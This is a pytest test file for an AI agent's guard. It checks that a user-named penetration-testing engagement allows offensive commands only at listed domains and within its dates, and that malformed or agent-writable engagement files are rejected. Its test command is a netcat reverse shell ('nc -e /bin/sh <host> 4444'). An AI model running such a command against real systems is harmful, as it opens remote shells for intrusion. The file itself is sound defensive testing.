"""An engagement that a person names themselves, without a gateway: it holds at its targets, within its window."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from bench import bench
from running import run, says

from lathe.config.layers import load_settings
from lathe.config.settings import GuardTable
from lathe.protocol.errors import ConfigError
from lathe.protocol.events import GuardDecided

TARGET = "nc -e /bin/sh {} 4444"


def write(path: Path, **fields: str) -> str:
    now = datetime.now(UTC)
    given = {
        "name": '"spring test"',
        "authority": f'"{"ab" * 32}"',
        "starts": (now - timedelta(days=1)).isoformat(timespec="seconds"),
        "expires": (now + timedelta(days=1)).isoformat(timespec="seconds"),
        "domains": '["shop.example"]',
        "tier": '"specialist"',
        "scope": '["cyber.offensive"]',
        **fields,
    }
    path.write_text("".join(f"{name} = {value}\n" for name, value in given.items() if value))
    return str(path)


@pytest.mark.parametrize(
    ("fields", "host", "step", "said"),
    [
        ({}, "www.shop.example", "log", "in the engagement spring test"),
        ({}, "shop.example.net", "withhold", "does not hold what it is aimed at"),
        ({"expires": "2026-01-02", "starts": "2026-01-01"}, "shop.example", "withhold", "ended on 2026-01-02"),
        ({"expires": "2199-01-02", "starts": "2199-01-01"}, "shop.example", "withhold", "begins on 2199-01-01"),
        ({"scope": "[]", "tier": '"verified"'}, "shop.example", "withhold", "You hold the tier verified"),
    ],
)
async def test_it_holds_at_its_targets_and_within_its_window(
    fields: dict[str, str], host: str, step: str, said: str, tmp_path: Path, own_home: Path
) -> None:
    (tmp_path / "work").mkdir()
    table = GuardTable(engagement=write(tmp_path / "engagement.toml", **fields))
    steps = [run(f"touch tried; {TARGET.format(host)}"), says("ok")]
    async with bench(tmp_path / "work", own_home, steps, network=True, guard=table) as it:
        told = [one for one in await it.run("go") if isinstance(one, GuardDecided)]
    assert [one.step for one in told] == [step] and said in told[0].message
    assert (tmp_path / "work" / "tried").exists() == (step == "log")
    assert bool(told[0].engagement) == (said.startswith(("in the", "You hold")))


@pytest.mark.parametrize(
    ("fields", "said"),
    [
        ({"authority": '"the owner said so"'}, "64 hexadecimal digits"),
        ({"domains": '["shop"]'}, "no domain of at least two parts"),
        ({"domains": ""}, "at least one domain, network or repository"),
        ({"networks": '["0.0.0.0/0"]'}, "wider than /8"),
        ({"expires": '"tomorrow"'}, "expires must be a date or a time"),
        ({"expires": "2026-01-01", "starts": "2026-01-02"}, "ends before it begins"),
        ({"tier": '"root"'}, "Invalid enum value 'root'"),
        ({"project": '"x"'}, "unknown field `project`"),
    ],
)
async def test_a_file_that_is_wrong_is_an_error_that_says_how(
    fields: dict[str, str], said: str, tmp_path: Path, own_home: Path
) -> None:
    (tmp_path / "work").mkdir()
    table = GuardTable(engagement=write(tmp_path / "engagement.toml", **fields))
    with pytest.raises(ConfigError, match=said):
        async with bench(tmp_path / "work", own_home, [], guard=table):
            pass


async def test_no_file_counts_that_the_agent_could_write(tmp_path: Path, own_home: Path) -> None:
    table = GuardTable(engagement=write(tmp_path / "engagement.toml"))
    with pytest.raises(ConfigError, match="where the agent may write"):
        async with bench(tmp_path, own_home, [], guard=table):
            pass


def test_only_the_person_and_the_administrator_can_name_one(tmp_path: Path, own_home: Path) -> None:
    own, work, system = own_home / ".config" / "lathe", tmp_path / "work", tmp_path / "etc"
    for folder in (own, work / ".lathe", work / ".git", system):
        folder.mkdir(parents=True)
    environ = {"HOME": str(own_home)}
    (work / ".lathe" / "config.toml").write_text('[guard]\nengagement = "mine.toml"\n')
    (own / "config.toml").write_text(f'[projects."{work}"]\ntrusted = true\n')
    loaded = load_settings(cwd=work, environ=environ, system=system)
    assert loaded.settings.guard.engagement is None and any("guard is ignored" in one for one in loaded.warnings)
    with (own / "config.toml").open("a") as file:
        file.write('[guard]\nengagement = "spring.toml"\n')
    assert load_settings(cwd=work, environ=environ, system=system).settings.guard.engagement == str(own / "spring.toml")
    (system / "requirements.toml").write_text('[guard]\nengagement = ""\n')
    assert load_settings(cwd=work, environ=environ, system=system).settings.guard.engagement == ""
